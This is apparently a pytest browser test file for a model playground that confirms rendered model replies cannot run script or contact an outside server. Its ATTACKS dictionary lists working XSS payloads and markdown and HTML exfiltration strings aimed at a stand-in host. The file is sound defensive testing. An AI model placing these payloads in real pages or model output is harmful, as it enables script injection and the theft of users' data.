"""Whatever a model writes is shown and nothing else: it loads nothing, runs nothing, submits nothing.

The model really writes it: its output is held to the attack by a constraint.
"""

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from conftest import Watch, opened
from live import Live
from playground import constrain, say, set_params

pytestmark = pytest.mark.ui
# OUTSIDE: a server of the test that must never hear anything. PWNED: what a script would do.
PWNED = "window.pwned=1"
ATTACKS = {
    "picture": "![x](OUTSIDE/a.png?q=secret)",
    "picture by reference": "![x][1]\n\n[1]: OUTSIDE/a.png",
    "picture in a link": "[![x](OUTSIDE/a.png)](OUTSIDE/b)",
    "img": '<img src="OUTSIDE/a.png"><img src=x onerror="PWNED">',
    "img in a table": "|a|\n|-|\n|<img src=x onerror=PWNED>|",
    "style": "<style>@import url(OUTSIDE/s);body{background:url(OUTSIDE/b)}</style>",
    "style attribute": '<b style="background:url(OUTSIDE/b)">x</b>',
    "stylesheet": '<link rel="stylesheet" href="OUTSIDE/s.css">',
    "prefetch": '<link rel="prefetch" href="OUTSIDE/p"><link rel="dns-prefetch" href="OUTSIDE">',
    "form": '<form action="OUTSIDE/f"><input name="q" value="secret"><button>Send</button></form>',
    "focus": '<input autofocus onfocus="PWNED">',
    "script": "<script>PWNED</script>",
    "script from outside": '<script src="OUTSIDE/s.js"></script>',
    "svg": '<svg onload="PWNED"><image href="OUTSIDE/i"/><script>PWNED</script></svg>',
    "mutating": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=PWNED&gt;">',
    "iframe": '<iframe src="OUTSIDE/i"></iframe><iframe srcdoc="<script>parent.PWNED</script>"></iframe>',
    "object": '<object data="OUTSIDE/o"></object><embed src="OUTSIDE/e">',
    "media": '<video src="OUTSIDE/v" autoplay poster="OUTSIDE/p"></video><audio src="OUTSIDE/a" autoplay></audio>',
    "details": '<details open ontoggle="PWNED"><summary>x</summary></details>',
    "refresh": '<meta http-equiv="refresh" content="0;url=OUTSIDE/r">',
    "base": '<base href="OUTSIDE/">',
    "javascript link": "[x](javascript:PWNED)",
    "javascript link in capitals": "[x](JaVaScRiPt:PWNED) [y](&#106;avascript:PWNED) [z](java&#10;script:PWNED)",
    "javascript autolink": "<javascript:PWNED>",
    "javascript by reference": "[x][1]\n\n[1]: javascript:PWNED",
    "javascript anchor": '<a href="javascript:PWNED">x</a>',
    "data link": "[x](data:text/html,<script>PWNED</script>)",
    "vbscript link": "[x](vbscript:PWNED)",
    "ping": '<a href="#" ping="OUTSIDE/p">x</a>',
    "code that ends": "```html\n</code></pre><img src=x onerror=PWNED>\n```",
    "language of code": '```"><img/src=x/onerror=PWNED>\nx\n```',
    "title of a link": '[x](http://a.example "\\"><img src=x onerror=PWNED>")',
    "custom element": "<x-y onclick=PWNED is=x-y>z</x-y><template><script>PWNED</script></template>",
}
FORBIDDEN = "img, style, link, form, input, button, script, svg, math, iframe, object, embed, video, audio, meta, base"
ALLOWED_LINKS = ("http:", "https:", "mailto:")


class Outside:
    """A server whose every request is an escape."""

    def __init__(self) -> None:
        heard: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.heard = heard
        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}"
        threading.Thread(target=self.http.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    served = Outside()
    yield served
    served.http.shutdown()
    assert served.heard == []


@pytest.fixture(scope="module")
def attacked(chromium: Any, server: Live) -> Iterator[Any]:
    """One page for all attacks: what one of them left behind would show."""
    with opened(chromium, server.url, Watch(server.url)) as page:
        set_params(page, temperature=0)
        yield page


@pytest.fixture(scope="module")
def bare(chromium: Any, server: Live) -> Iterator[Any]:
    """One for the sanitiser by itself, whose parser's document has the page's policy: that is reported."""
    with opened(chromium, server.url, Watch(server.url, allowed=[re.compile("Content Security Policy")])) as page:
        yield page


def written(attack: str, outside: Outside) -> str:
    return attack.replace("OUTSIDE", outside.url).replace("PWNED", PWNED)


def check_harmless(page: Any, place: str) -> None:
    page.wait_for_timeout(100)  # what would load or run has had its time
    assert page.evaluate("window.pwned") is None
    assert page.locator(f":is({place}) :is({FORBIDDEN})").count() == 0
    for link in page.locator(f":is({place}) a[href]").all():
        assert link.evaluate("a => a.protocol") in ALLOWED_LINKS
        assert link.get_attribute("rel") == "noopener noreferrer"
    assert page.locator(f":is({place}) :is([onerror], [onload], [onclick], [onfocus], [ping], [style])").count() == 0


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_reply_does_nothing(attacked: Any, outside: Outside, attack: str) -> None:
    page, text = attacked, written(attack, outside)
    page.get_by_role("button", name="New chat").click()
    constrain(page, "regex", re.escape(text))
    say(page, "Attack me.")
    assert page.locator(".sample .problem").count() == 0
    check_harmless(page, ".markdown")
    page.select_option("#shown-as", "text")
    assert page.locator(".sample .plain").text_content() == text, "the model wrote all of it"
    page.select_option("#shown-as", "tokens")
    assert page.evaluate("window.pwned") is None and page.locator(f".tokens :is({FORBIDDEN})").count() == 0
    assert outside.heard == []


def test_a_call_of_a_tool_and_a_prompt_do_nothing(page: Any, outside: Outside) -> None:
    text = written(ATTACKS["img"] + ATTACKS["script"], outside)
    schema = {"type": "object", "properties": {"city": {"const": text}}, "required": ["city"]}
    page.get_by_text("Tools", exact=True).click()
    page.fill("#tools-text", json.dumps([{"type": "function", "function": {"name": "w", "parameters": schema}}]))
    page.locator("details:has(#tools-text) select").select_option("required")
    say(page, text)
    assert text in json.loads(page.inner_text(".call").removeprefix("w(").removesuffix(")"))["city"]
    check_harmless(page, ".sample, .turn > .plain")
    assert outside.heard == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_the_sanitiser_alone_lets_nothing_through(bare: Any, outside: Outside, attack: str) -> None:
    """Without the wall before it, which shows HTML as text."""
    bare.evaluate(
        """async (text) => {
          const {sanitised} = await import("/ui/markdown.js");
          const {Marked} = await import("/ui/vendor/marked.esm.js");
          const place = document.createElement("div");
          document.querySelector("#alone")?.remove();
          place.id = "alone";
          place.append(sanitised(new Marked().parse(text)));
          document.body.append(place);
        }""",
        written(attack, outside),
    )
    check_harmless(bare, "#alone")
    assert outside.heard == []


@pytest.mark.parametrize(
    "attack", ["img", "style", "style attribute", "stylesheet", "script", "svg", "iframe", "object"]
)
def test_the_policy_alone_lets_nothing_in(page: Any, watch: Any, outside: Outside, attack: str) -> None:
    """Even where HTML is put into the page as it is."""
    watch.allowed.append(re.compile("Content Security Policy|Failed to load resource"))
    page.evaluate("(text) => document.body.insertAdjacentHTML('beforeend', text)", written(ATTACKS[attack], outside))
    page.wait_for_timeout(100)
    assert page.evaluate("window.pwned") is None and outside.heard == []
    watch.left.clear()  # the browser names what it refused to load
